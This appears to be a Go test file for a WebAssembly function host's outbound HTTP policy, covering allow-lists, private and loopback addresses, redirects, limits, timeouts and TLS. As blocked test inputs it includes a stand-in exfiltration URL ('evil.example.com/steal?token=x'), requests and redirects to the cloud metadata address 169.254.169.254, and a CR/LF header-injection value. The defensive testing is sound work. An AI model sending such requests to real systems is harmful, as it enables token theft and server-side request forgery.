package hosttest_test

import (
	"context"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/wasmfaas/wasmfaas/abi"
	"github.com/wasmfaas/wasmfaas/host"
	"github.com/wasmfaas/wasmfaas/host/egress"
	"github.com/wasmfaas/wasmfaas/host/hosttest"
)

// fakeResolver maps names to addresses; any other name does not exist.
type fakeResolver map[string][]string

func (f fakeResolver) LookupIPAddr(_ context.Context, name string) ([]net.IPAddr, error) {
	ips, ok := f[name]
	if !ok {
		return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
	}
	out := make([]net.IPAddr, len(ips))
	for i, ip := range ips {
		out[i] = net.IPAddr{IP: net.ParseIP(ip)}
	}
	return out, nil
}

// loopDialer connects every address the host checked to 127.0.0.1 on the
// same port, and remembers the addresses it was asked for: the policy
// treats them as what they are (public, private), while the test servers
// listen on loopback.
type loopDialer struct {
	mu    sync.Mutex
	asked []string
}

func (d *loopDialer) DialContext(ctx context.Context, network, addr string) (net.Conn, error) {
	_, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, err
	}
	d.mu.Lock()
	d.asked = append(d.asked, addr)
	d.mu.Unlock()
	return (&net.Dialer{}).DialContext(ctx, network, "127.0.0.1:"+port)
}

func (d *loopDialer) addrs() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.asked...)
}

// outcome is one request's report from the httpcheck guest.
type outcome struct {
	Status  int
	Headers map[string][]string
	Body    string
	Error   string
	Code    string
}

type req struct {
	Method  string      `json:"method,omitempty"`
	URL     string      `json:"url"`
	Headers [][2]string `json:"headers,omitempty"`
	Body    string      `json:"body,omitempty"`
}

func newHTTPHost(t *testing.T, cfg egress.Config) *hosttest.Host {
	t.Helper()
	h, err := hosttest.New(hosttest.Options{HTTP: cfg})
	require.NoError(t, err)
	t.Cleanup(func() { _ = h.Close() })
	return h
}

func deployHTTPCheck(t *testing.T, h *hosttest.Host, lim host.Limits, allow ...string) *host.Function {
	t.Helper()
	fn, err := h.Deploy(t.Context(), "httpcheck", build(t, "host/hosttest/testdata/guests/httpcheck"),
		hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(allow...), hosttest.WithLimits(lim))
	require.NoError(t, err)
	t.Cleanup(func() { _ = fn.Close(context.Background()) })
	return fn
}

// run sends the requests through the httpcheck guest; the call must end ok
// whatever the requests' outcomes.
func run(t *testing.T, h *hosttest.Host, fn *host.Function, reqs ...req) ([]outcome, host.ExecutionInfo) {
	t.Helper()
	info := h.Send(t.Context(), fn, hosttest.NewEvent("com.example.http", "", reqs))
	require.Equal(t, host.StatusOK, info.Status, "%+v", info.Error)
	var out []outcome
	require.NoError(t, json.Unmarshal(info.Result.Body, &out), string(info.Result.Body))
	require.Len(t, out, len(reqs))
	require.Len(t, info.HTTPRequests, len(reqs), "every request is recorded")
	return out, info
}

// server is an httptest server on loopback that counts its requests.
type server struct {
	*httptest.Server
	hits atomic.Int64
	port string
}

func newServer(t *testing.T, h http.HandlerFunc) *server {
	t.Helper()
	s := &server{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.hits.Add(1)
		h(w, r)
	}))
	t.Cleanup(s.Close)
	_, s.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	return s
}

func (s *server) hostPort() string { return "127.0.0.1:" + s.port }

func text(body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		_, _ = io.WriteString(w, body)
	}
}

// TestHTTPAllowedHost: a request to a listed host gets its status, headers
// and body; the server sees the guest's method, headers and body; the
// ExecutionInfo records the request.
func TestHTTPAllowedHost(t *testing.T) {
	var seen struct {
		method, ua, test string
	}
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		seen.method, seen.ua, seen.test = r.Method, r.Header.Get("User-Agent"), r.Header.Get("X-Test")
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Add("X-Reply", "a")
		w.Header().Add("X-Reply", "b")
		w.WriteHeader(http.StatusCreated)
		_, _ = io.WriteString(w, "hello "+string(b))
	})
	h := newHTTPHost(t, egress.Config{})
	fn := deployHTTPCheck(t, h, host.Limits{}, srv.hostPort())
	out, info := run(t, h, fn, req{Method: "POST", URL: srv.URL + "/hello?secret=1", Headers: [][2]string{{"X-Test", "yes"}}, Body: "world"})

	assert.Equal(t, http.StatusCreated, out[0].Status, "%+v", out[0])
	assert.Equal(t, "hello world", out[0].Body)
	assert.Equal(t, []string{"a", "b"}, out[0].Headers["x-reply"])
	assert.Equal(t, []string{"text/plain"}, out[0].Headers["content-type"])
	assert.Equal(t, "POST", seen.method)
	assert.Equal(t, "wasmfaas", seen.ua)
	assert.Equal(t, "yes", seen.test)

	rec := info.HTTPRequests[0]
	assert.Equal(t, "POST", rec.Method)
	assert.Equal(t, srv.hostPort(), rec.Host)
	assert.Equal(t, http.StatusCreated, rec.Status)
	assert.Empty(t, rec.Error)
	assert.Equal(t, len("X-Test\x00yes\x00")+len("world"), rec.RequestBytes)
	assert.Equal(t, len("hello world"), rec.ResponseBytes)
	assert.Positive(t, rec.DurationNS)
	b, err := json.Marshal(info)
	require.NoError(t, err)
	assert.NotContains(t, string(b), "secret", "the URL's query is not recorded")
}

// TestHTTPDeniedHost: a host not on the list is refused before any
// connection, with a message naming it that the guest reads; the call
// carries on. Granting http with an empty list refuses everything.
func TestHTTPDeniedHost(t *testing.T) {
	allowed := newServer(t, text("allowed"))
	other := newServer(t, text("other"))
	h := newHTTPHost(t, egress.Config{})
	fn := deployHTTPCheck(t, h, host.Limits{}, allowed.hostPort())
	out, info := run(t, h, fn,
		req{URL: other.URL + "/"},
		req{URL: "https://evil.example.com/steal?token=x"},
		req{URL: allowed.URL + "/"},
	)
	assert.Equal(t, "DENIED", out[0].Code)
	assert.Contains(t, out[0].Error, fmt.Sprintf("host 127.0.0.1 (port %s) is not on the function's allow-list", other.port))
	assert.Equal(t, "DENIED", out[1].Code)
	assert.Contains(t, out[1].Error, "host evil.example.com (port 443) is not on the function's allow-list")
	assert.NotContains(t, out[1].Error, "token")
	assert.Equal(t, 200, out[2].Status, "the call continues: %+v", out[2])
	assert.Equal(t, "allowed", out[2].Body)
	assert.Zero(t, other.hits.Load(), "no request reached the other server")
	assert.Equal(t, "DENIED", info.HTTPRequests[0].ErrorCode)
	assert.Equal(t, "evil.example.com:443", info.HTTPRequests[1].Host)
	assert.Equal(t, 200, info.HTTPRequests[2].Status)

	empty := deployHTTPCheck(t, h, host.Limits{})
	out, _ = run(t, h, empty, req{URL: allowed.URL + "/"})
	assert.Equal(t, "DENIED", out[0].Code)
	assert.Equal(t, int64(1), allowed.hits.Load())
}

// TestHTTPWildcard: *.domain allows names under it, not the domain itself;
// a private address is reached through an exact entry only; the host
// dials the addresses it checked.
func TestHTTPWildcard(t *testing.T) {
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, "host "+r.Host) })
	dialer := &loopDialer{}
	h := newHTTPHost(t, egress.Config{Dialer: dialer, Resolver: fakeResolver{
		"api.example.test":      {"203.0.113.10"},
		"deep.api.example.test": {"203.0.113.11"},
		"example.test":          {"203.0.113.12"},
		"private.example.test":  {"10.1.2.3"},
		"db.example.net":        {"10.1.2.4"},
	}})
	fn := deployHTTPCheck(t, h, host.Limits{}, "*.example.test:"+srv.port, "db.example.net:"+srv.port)
	u := func(name string) string { return "http://" + name + ":" + srv.port + "/" }
	out, info := run(t, h, fn,
		req{URL: u("api.example.test")},
		req{URL: u("deep.api.example.test")},
		req{URL: u("example.test")},
		req{URL: u("private.example.test")},
		req{URL: u("db.example.net")},
		req{URL: "http://api.example.test/"}, // port 80: the entry names another
	)
	assert.Equal(t, 200, out[0].Status, "%+v", out[0])
	assert.Equal(t, "host api.example.test:"+srv.port, out[0].Body)
	assert.Equal(t, 200, out[1].Status, "%+v", out[1])
	assert.Equal(t, "DENIED", out[2].Code)
	assert.Contains(t, out[2].Error, "host example.test (port "+srv.port+") is not on the function's allow-list")
	assert.Equal(t, "DENIED", out[3].Code)
	assert.Contains(t, out[3].Error, "host private.example.test resolves to 10.1.2.3, a private address, which a wildcard entry does not allow")
	assert.Equal(t, 200, out[4].Status, "a private address through an exact entry: %+v", out[4])
	assert.Equal(t, "DENIED", out[5].Code)
	assert.Equal(t, []string{"203.0.113.10:" + srv.port, "203.0.113.11:" + srv.port, "10.1.2.4:" + srv.port}, dialer.addrs())
	assert.Equal(t, "DENIED", info.HTTPRequests[3].ErrorCode)
}

// TestHTTPLoopbackByName: an allowed name that resolves to a loopback or
// link-local address is refused; the IP literal, or localhost, is allowed.
func TestHTTPLoopbackByName(t *testing.T) {
	srv := newServer(t, text("local"))
	h := newHTTPHost(t, egress.Config{Resolver: fakeResolver{
		"svc.test":  {"127.0.0.1"},
		"meta.test": {"169.254.169.254"},
		"six.test":  {"::1"},
	}})
	fn := deployHTTPCheck(t, h, host.Limits{}, "svc.test:"+srv.port, "meta.test", "six.test:"+srv.port, srv.hostPort())
	out, _ := run(t, h, fn,
		req{URL: "http://svc.test:" + srv.port + "/"},
		req{URL: "http://meta.test/latest/meta-data/"},
		req{URL: "http://six.test:" + srv.port + "/"},
		req{URL: srv.URL + "/"},
	)
	assert.Equal(t, "DENIED", out[0].Code)
	assert.Contains(t, out[0].Error, "host svc.test resolves to 127.0.0.1, a loopback address, which only an allow-list entry naming that IP allows")
	assert.Equal(t, "DENIED", out[1].Code)
	assert.Contains(t, out[1].Error, "host meta.test resolves to 169.254.169.254, a link-local address")
	assert.Equal(t, "DENIED", out[2].Code)
	assert.Contains(t, out[2].Error, "::1, a loopback address")
	assert.Equal(t, 200, out[3].Status, "the IP literal is allowed: %+v", out[3])
	assert.Equal(t, int64(1), srv.hits.Load())

	// The system resolver: localhost is allowed by name, and only by name.
	sys := newHTTPHost(t, egress.Config{})
	byName := deployHTTPCheck(t, sys, host.Limits{}, "localhost:"+srv.port)
	out, _ = run(t, sys, byName, req{URL: "http://localhost:" + srv.port + "/"}, req{URL: srv.URL + "/"})
	assert.Equal(t, 200, out[0].Status, "%+v", out[0])
	assert.Equal(t, "local", out[0].Body)
	assert.Equal(t, "DENIED", out[1].Code, "127.0.0.1 is not localhost on the list")
}

// TestHTTPRedirects: a redirect to an allowed host is followed; one off
// the list ends the request; past 5 the redirect itself is the answer.
func TestHTTPRedirects(t *testing.T) {
	b := newServer(t, text("from b"))
	c := newServer(t, text("from c"))
	a := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/to-b":
			http.Redirect(w, r, b.URL+"/", http.StatusFound)
		case "/to-c":
			http.Redirect(w, r, c.URL+"/", http.StatusTemporaryRedirect)
		case "/to-meta":
			http.Redirect(w, r, "http://169.254.169.254/latest/", http.StatusFound)
		case "/loop":
			http.Redirect(w, r, "/loop", http.StatusFound)
		}
	})
	h := newHTTPHost(t, egress.Config{})
	fn := deployHTTPCheck(t, h, host.Limits{}, a.hostPort(), b.hostPort())
	out, info := run(t, h, fn,
		req{URL: a.URL + "/to-b"},
		req{URL: a.URL + "/to-c"},
		req{URL: a.URL + "/to-meta"},
		req{URL: a.URL + "/loop"},
	)
	assert.Equal(t, 200, out[0].Status, "%+v", out[0])
	assert.Equal(t, "from b", out[0].Body)
	assert.Equal(t, b.hostPort(), info.HTTPRequests[0].Host, "the record names the host that answered")
	assert.Equal(t, "DENIED", out[1].Code)
	assert.Contains(t, out[1].Error, fmt.Sprintf("redirect to host 127.0.0.1 (port %s) refused: it is not on the function's allow-list", c.port))
	assert.Zero(t, c.hits.Load())
	assert.Equal(t, "DENIED", out[2].Code)
	assert.Contains(t, out[2].Error, "redirect to host 169.254.169.254 (port 80) refused")
	assert.Equal(t, http.StatusFound, out[3].Status, "%+v", out[3])
	assert.Equal(t, []string{"/loop"}, out[3].Headers["location"])
	assert.Equal(t, int64(1+1+1+6), a.hits.Load(), "the loop was followed 5 times")
}

// TestHTTPLimits: a response over max_http_response_bytes (announced or
// not), a request over max_http_request_bytes and requests past
// max_http_requests get their status and a message; the call carries on.
func TestHTTPLimits(t *testing.T) {
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/big":
			w.Header().Set("Content-Length", "2000")
			_, _ = w.Write(make([]byte, 2000))
		case "/chunked":
			for range 20 {
				_, _ = w.Write(make([]byte, 100))
				w.(http.Flusher).Flush()
			}
		case "/fits":
			_, _ = w.Write([]byte(strings.Repeat("x", 1000)))
		}
	})
	h := newHTTPHost(t, egress.Config{})
	fn := deployHTTPCheck(t, h, host.Limits{MaxHTTPResponseBytes: 1000, MaxHTTPRequestBytes: 100, MaxHTTPRequests: 5}, srv.hostPort())
	out, info := run(t, h, fn,
		req{URL: srv.URL + "/big"},
		req{URL: srv.URL + "/chunked"},
		req{URL: srv.URL + "/fits"},
		req{Method: "POST", URL: srv.URL + "/fits", Body: strings.Repeat("y", 101)},
		req{URL: srv.URL + "/fits"},
		req{URL: srv.URL + "/fits"},
	)
	want := fmt.Sprintf("response from host 127.0.0.1 (port %s) is 2000 bytes; the function's max_http_response_bytes is 1000", srv.port)
	assert.Equal(t, "TOO_LARGE", out[0].Code)
	assert.Contains(t, out[0].Error, want)
	assert.Equal(t, "TOO_LARGE", out[1].Code)
	assert.Contains(t, out[1].Error, "is over 1000 bytes, the function's max_http_response_bytes")
	assert.Equal(t, 200, out[2].Status)
	assert.Len(t, out[2].Body, 1000)
	assert.Equal(t, "TOO_LARGE", out[3].Code)
	assert.Contains(t, out[3].Error, "request is 101 bytes (headers and body); the function's max_http_request_bytes is 100")
	assert.Equal(t, 200, out[4].Status)
	assert.Equal(t, "LIMIT", out[5].Code)
	assert.Contains(t, out[5].Error, "more than 5 requests in one call")
	assert.Equal(t, int64(4), srv.hits.Load(), "refused requests never left the host")
	assert.Equal(t, "TOO_LARGE", info.HTTPRequests[0].ErrorCode)
}

// TestHTTPInvalid: malformed requests get INVALID with a reason.
func TestHTTPInvalid(t *testing.T) {
	srv := newServer(t, text("ok"))
	h := newHTTPHost(t, egress.Config{})
	fn := deployHTTPCheck(t, h, host.Limits{}, srv.hostPort())
	out, _ := run(t, h, fn,
		req{URL: "ftp://" + srv.hostPort() + "/"},
		req{URL: "/relative"},
		req{URL: srv.URL, Headers: [][2]string{{"Host", "other"}}},
		req{URL: srv.URL, Headers: [][2]string{{"X-Bad", "a\r\nInjected: 1"}}},
		req{URL: srv.URL, Method: "GE T"},
		req{URL: srv.URL, Method: "CONNECT"},
	)
	for i, want := range []string{`scheme "ftp" is not http or https`, "URL must be absolute", "header Host is set by the host",
		"header X-Bad: value contains CR, LF or NUL", `method "GE T" is not an HTTP method token`, "CONNECT is not allowed"} {
		assert.Equal(t, "INVALID", out[i].Code, "%d: %+v", i, out[i])
		assert.Contains(t, out[i].Error, want)
	}
	assert.Zero(t, srv.hits.Load())
}

// TestHTTPTimeout: a server that never answers fails the request with
// TIMEOUT at the function's http_timeout, and the call carries on; with a
// call deadline shorter than http_timeout the call ends at its deadline.
func TestHTTPTimeout(t *testing.T) {
	release := make(chan struct{})
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/hang" {
			select {
			case <-r.Context().Done():
			case <-release:
			}
			return
		}
		_, _ = io.WriteString(w, "ok")
	})
	t.Cleanup(func() { close(release) }) // runs before srv.Close
	h := newHTTPHost(t, egress.Config{})

	fn := deployHTTPCheck(t, h, host.Limits{HTTPTimeout: 300 * time.Millisecond, Timeout: 10 * time.Second}, srv.hostPort())
	start := time.Now()
	out, info := run(t, h, fn, req{URL: srv.URL + "/hang"}, req{URL: srv.URL + "/fine"})
	assert.Less(t, time.Since(start), 5*time.Second)
	assert.Equal(t, "TIMEOUT", out[0].Code, "%+v", out[0])
	assert.Contains(t, out[0].Error, fmt.Sprintf("host 127.0.0.1 (port %s) did not answer within the function's http_timeout of 300ms", srv.port))
	assert.GreaterOrEqual(t, info.HTTPRequests[0].DurationNS, int64(300*time.Millisecond))
	assert.Equal(t, 200, out[1].Status, "the call continues: %+v", out[1])

	short, err := h.Deploy(t.Context(), "short", build(t, "host/hosttest/testdata/guests/httpcheck"),
		hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(srv.hostPort()), hosttest.WithLimits(host.Limits{Timeout: 700 * time.Millisecond}))
	require.NoError(t, err)
	t.Cleanup(func() { _ = short.Close(context.Background()) })
	start = time.Now()
	got := h.Send(t.Context(), short, hosttest.NewEvent("com.example.http", "", []req{{URL: srv.URL + "/hang"}}))
	elapsed := time.Since(start)
	assert.Equal(t, host.StatusTimeout, got.Status, "%+v", got.Error)
	assert.Less(t, elapsed, 5*time.Second, "the call's deadline bounds the request")
	require.Len(t, got.HTTPRequests, 1)
	assert.Equal(t, "TIMEOUT", got.HTTPRequests[0].ErrorCode)
	assert.Contains(t, got.HTTPRequests[0].Error, "the call's deadline")
}

// TestFetchExample runs the Go, C, Rust and AssemblyScript builds of
// examples/fetch against a local server: the page is the result; a host off the list fails the call
// with a message naming it; an event without a URL is rejected.
func TestFetchExample(t *testing.T) {
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, "<h1>hello from "+r.URL.Path+"</h1>")
	})
	other := newServer(t, text("other"))
	for _, lang := range []string{"go", "c", "rust", "assemblyscript"} {
		t.Run(lang, func(t *testing.T) {
			var wasm []byte
			dir := filepath.Join("examples", "fetch", lang)
			switch lang {
			case "go":
				wasm = build(t, dir)
			case "c":
				wasm = buildC(t, dir)
			case "rust":
				wasm = buildRust(t, dir)
			case "assemblyscript":
				wasm = buildAS(t, dir)
			}
			h := newHTTPHost(t, egress.Config{})
			m, err := h.Load(t.Context(), wasm)
			require.NoError(t, err)
			assert.Contains(t, m.Capabilities, abi.CapHTTP)
			fn, err := h.Deploy(t.Context(), "fetch", wasm, hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(srv.hostPort()))
			require.NoError(t, err)
			t.Cleanup(func() { _ = fn.Close(context.Background()) })

			info := h.Send(t.Context(), fn, hosttest.NewEvent("com.example.fetch", "", map[string]string{"url": srv.URL + "/page"}))
			require.Equal(t, host.StatusOK, info.Status, "%+v", info.Error)
			assert.Equal(t, "<h1>hello from /page</h1>", string(info.Result.Body))
			assert.Equal(t, "text/html; charset=utf-8", info.Result.ContentType)
			assert.JSONEq(t, "200", string(info.Fields["status"]))
			assert.JSONEq(t, "25", string(info.Fields["bytes"]))
			assert.Equal(t, []host.LogLine{{Level: "info", Message: "status 200, 25 bytes of text/html; charset=utf-8"}}, info.Logs)
			require.Len(t, info.HTTPRequests, 1)
			assert.Equal(t, 200, info.HTTPRequests[0].Status)

			info = h.Send(t.Context(), fn, hosttest.NewEvent("com.example.fetch", "", map[string]string{"url": other.URL + "/"}))
			require.Equal(t, host.StatusError, info.Status)
			assert.Equal(t, "fetch_failed", info.Error.Kind)
			assert.Equal(t, fmt.Sprintf("fetch: http request: host 127.0.0.1 (port %s) is not on the function's allow-list", other.port), info.Error.Message)
			assert.Zero(t, other.hits.Load())

			info = h.Send(t.Context(), fn, hosttest.NewEvent("com.example.fetch", "", map[string]string{}))
			assert.Equal(t, host.StatusRejected, info.Status, "%+v", info.Error)
			assert.Contains(t, info.Error.Message, `data: field "url" is required`)
		})
	}
}

// TestASHTTP runs the same requests through the Go httpcheck guest and its
// AssemblyScript twin (testdata/asguests/httpcheck.ts, on the SDK's
// ctx.http()) and asserts that both report the same outcomes: a POST with a
// header and a body, repeated response headers, a long header and a long
// body (past the SDK's first buffer), a 404, an empty body, a host off the
// list and an invalid method.
func TestASHTTP(t *testing.T) {
	long := strings.Repeat("x", 3000)
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		// No Date header, so that the two guests' reports can be equal.
		w.Header()["Date"] = nil
		switch r.URL.Path {
		case "/missing":
			http.Error(w, "no such page", http.StatusNotFound)
		case "/empty":
			w.WriteHeader(http.StatusNoContent)
		case "/long":
			w.Header().Set("X-Long", long)
			_, _ = io.WriteString(w, long+long)
		default:
			w.Header().Set("Content-Type", "text/plain")
			w.Header().Add("X-Reply", "a")
			w.Header().Add("X-Reply", "b")
			w.Header().Set("X-Test", r.Header.Get("X-Test"))
			w.WriteHeader(http.StatusCreated)
			_, _ = io.WriteString(w, r.Method+" "+string(b))
		}
	})
	other := newServer(t, text("other"))
	reqs := []req{
		{Method: "POST", URL: srv.URL + "/hello", Headers: [][2]string{{"X-Test", "yes"}}, Body: "world"},
		{URL: srv.URL + "/long"},
		{URL: srv.URL + "/missing"},
		{Method: "DELETE", URL: srv.URL + "/empty"},
		{URL: other.URL + "/"},
		{Method: "BAD METHOD", URL: srv.URL + "/"},
	}
	h := newHTTPHost(t, egress.Config{})
	results := map[string]string{}
	for _, g := range []struct{ lang, path string }{
		{"go", "host/hosttest/testdata/guests/httpcheck"},
		{"assemblyscript", "host/hosttest/testdata/asguests/httpcheck.ts"},
	} {
		var wasm []byte
		if g.lang == "go" {
			wasm = build(t, g.path)
		} else {
			wasm = buildAS(t, g.path)
		}
		fn, err := h.Deploy(t.Context(), "httpcheck-"+g.lang, wasm, hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(srv.hostPort()))
		require.NoError(t, err)
		t.Cleanup(func() { _ = fn.Close(context.Background()) })
		out, info := run(t, h, fn, reqs...)
		results[g.lang] = string(info.Result.Body)

		assert.Equal(t, http.StatusCreated, out[0].Status, "%s: %+v", g.lang, out[0])
		assert.Equal(t, "POST world", out[0].Body, g.lang)
		assert.Equal(t, []string{"a", "b"}, out[0].Headers["x-reply"], g.lang)
		assert.Equal(t, []string{"yes"}, out[0].Headers["x-test"], g.lang)
		assert.Equal(t, []string{long}, out[1].Headers["x-long"], g.lang)
		assert.Equal(t, long+long, out[1].Body, g.lang)
		assert.Equal(t, http.StatusNotFound, out[2].Status, g.lang)
		assert.Equal(t, "no such page\n", out[2].Body, g.lang)
		assert.Equal(t, http.StatusNoContent, out[3].Status, g.lang)
		assert.Empty(t, out[3].Body, g.lang)
		assert.Equal(t, "DENIED", out[4].Code, g.lang)
		assert.Contains(t, out[4].Error, fmt.Sprintf("http request: host 127.0.0.1 (port %s) is not on the function's allow-list", other.port), g.lang)
		assert.Equal(t, "INVALID", out[5].Code, g.lang)
		assert.NotEmpty(t, out[5].Error, g.lang)
	}
	assert.JSONEq(t, results["go"], results["assemblyscript"], "the AssemblyScript SDK reports what the Go SDK does")
	assert.Zero(t, other.hits.Load())
}

// TestHTTPS: a request to an HTTPS server on the list is checked against
// the configured certificate authorities: trusted, it answers; not
// trusted (the system's roots do not know a test server's certificate),
// the request fails with an error naming the host and the certificate,
// and the call carries on.
func TestHTTPS(t *testing.T) {
	srv := httptest.NewTLSServer(text("secure"))
	t.Cleanup(srv.Close)
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	allowed := "127.0.0.1:" + port
	roots := x509.NewCertPool()
	roots.AddCert(srv.Certificate())

	h := newHTTPHost(t, egress.Config{RootCAs: roots})
	fn := deployHTTPCheck(t, h, host.Limits{}, allowed)
	out, info := run(t, h, fn, req{URL: srv.URL + "/"})
	assert.Equal(t, http.StatusOK, out[0].Status, "%+v", out[0])
	assert.Equal(t, "secure", out[0].Body)
	assert.Equal(t, allowed, info.HTTPRequests[0].Host)

	untrusted := newHTTPHost(t, egress.Config{})
	fn = deployHTTPCheck(t, untrusted, host.Limits{}, allowed)
	out, _ = run(t, untrusted, fn, req{URL: srv.URL + "/"})
	assert.Zero(t, out[0].Status, "%+v", out[0])
	assert.Contains(t, out[0].Error, "host 127.0.0.1 (port "+port+")")
	assert.Contains(t, out[0].Error, "certificate")
}

// TestSuiteAllowedHosts: a cases directory's suite.json grants http and
// lists the allowed hosts, as deploy does; a case on a host not listed
// fails with the host's reason.
func TestSuiteAllowedHosts(t *testing.T) {
	srv := newServer(t, text("from the suite"))
	dir := t.TempDir()
	write := func(name, body string) {
		t.Helper()
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644))
	}
	write("suite.json", `{"grants": ["http"], "allowed_hosts": ["`+srv.hostPort()+`"], "function": "fetch"}`)
	write("listed.event.json", `{"specversion": "1.0", "id": "1", "source": "/t", "type": "t", "datacontenttype": "application/json", "data": {"url": "`+srv.URL+`/"}}`)
	write("listed.expect.json", `{"status": "ok", "result": {"text": "from the suite"}}`)
	write("unlisted.event.json", `{"specversion": "1.0", "id": "2", "source": "/t", "type": "t", "datacontenttype": "application/json", "data": {"url": "http://127.0.0.2:1/"}}`)
	write("unlisted.expect.json", `{"status": "error", "error": {"kind": "fetch_failed"}}`)
	results, err := hosttest.Suite{Wasm: build(t, "examples/fetch/go")}.Run(t.Context(), dir)
	require.NoError(t, err)
	require.Len(t, results, 2)
	for _, r := range results {
		assert.True(t, r.Passed(), "%s: %v %v", r.Case.Name, r.Err, r.Diffs)
		if r.Case.Name == "unlisted" {
			assert.Contains(t, r.Info.Error.Message, "host 127.0.0.2 (port 1) is not on the function's allow-list")
		}
	}
}
